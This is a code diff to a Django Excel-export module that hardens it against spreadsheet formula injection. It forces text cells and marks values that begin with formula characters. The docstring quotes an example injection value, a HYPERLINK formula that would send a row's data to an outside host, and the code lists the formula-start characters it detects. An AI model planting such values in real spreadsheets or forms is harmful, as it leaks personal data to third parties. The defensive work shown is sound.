@@ -1,39 +1,85 @@
-"""Excel exports: officials live in Excel, so every list page can be taken away as .xlsx."""
+"""Excel exports: officials live in Excel, so every list page can be taken away as .xlsx.
+
+Every cell the product writes holds user text as text. A value such as ``=HYPERLINK("//e.cn/"&B3)``
+typed into a name field would otherwise become a live formula on the official's machine, next to the
+ID numbers of the same row. Strings are therefore always written as string cells, never as formulas,
+and those that a spreadsheet would read as one when the cell is edited or the sheet is saved as CSV
+(``=``, ``+``, ``-``, ``@``, tab, CR) also carry Excel's own "text" marker (quotePrefix): the cell shows
+exactly the text, without an added apostrophe, so a roster written here and read back is unchanged.
+"""
 
 from __future__ import annotations
 
 import datetime as dt
+import re
 from collections.abc import Iterable, Sequence
+from decimal import Decimal
 from io import BytesIO
 from typing import Any
 from urllib.parse import quote
 
 from django.http import HttpResponse
+from django.utils import timezone
 from openpyxl import Workbook
+from openpyxl.cell.cell import Cell
 from openpyxl.styles import Alignment, Font, PatternFill
 from openpyxl.utils import get_column_letter
 
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+
+# What a spreadsheet takes as the start of a formula (or of a DDE payload in a CSV).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+# Characters the XML of an xlsx cannot hold (openpyxl raises on them): shown as U+FFFD, so an export of
+# a field somebody filled with control characters still downloads, and the spot is visible.
+_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
+_MAX_CELL = 32767  # Excel's limit on the characters of one cell
+
+
+def cell_text(value: str) -> str:
+    """A string as it can be stored in a cell: illegal characters replaced, cut to Excel's limit."""
+    return _ILLEGAL.sub("\ufffd", value)[:_MAX_CELL]
+
+
+def _plain(value: Any) -> Any:
+    """A value openpyxl stores as such; anything else (lists, dicts, decimals' kin) as its text."""
+    if isinstance(value, dt.datetime):
+        # Excel has no time zones: an aware time is shown as the bureau's local time.
+        return timezone.localtime(value).replace(tzinfo=None) if timezone.is_aware(value) else value
+    if value is None or isinstance(value, bool | int | float | Decimal | dt.date | dt.time | dt.timedelta):
+        return value
+    return cell_text(value if isinstance(value, str) else str(value))
+
+
+def _as_text(cell: Cell) -> None:
+    value = cell.value
+    if isinstance(value, str):
+        cell.data_type = "s"
+        if value.startswith(FORMULA_STARTS):
+            cell.quotePrefix = True
 
 
 def workbook_bytes(title: str, headers: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
     wb = Workbook(write_only=False)
     ws = wb.active
     assert ws is not None
-    ws.title = title[:31]
-    ws.append(list(headers))
+    ws.title = cell_text(title)[:31]
+    ws.append([_plain(h) for h in headers])
     bold = Font(bold=True)
     fill = PatternFill("solid", fgColor="DCE6F1")
     for cell in ws[1]:
+        _as_text(cell)
         cell.font = bold
         cell.fill = fill
         cell.alignment = Alignment(horizontal="center")
     widths = [max(6, len(h) * 2 + 2) for h in headers]
     for row in rows:
-        values = [v.replace(tzinfo=None) if isinstance(v, dt.datetime) else v for v in row]
+        values = [_plain(v) for v in row]
         ws.append(values)
+        for cell in ws[ws.max_row]:
+            _as_text(cell)
         for i, v in enumerate(values):
-            widths[i] = min(60, max(widths[i], len(str(v or "")) * 2))
+            if i < len(widths):
+                widths[i] = min(60, max(widths[i], len(str(v or "")) * 2))
     for i, width in enumerate(widths, start=1):
         ws.column_dimensions[get_column_letter(i)].width = width
     ws.freeze_panes = "A2"
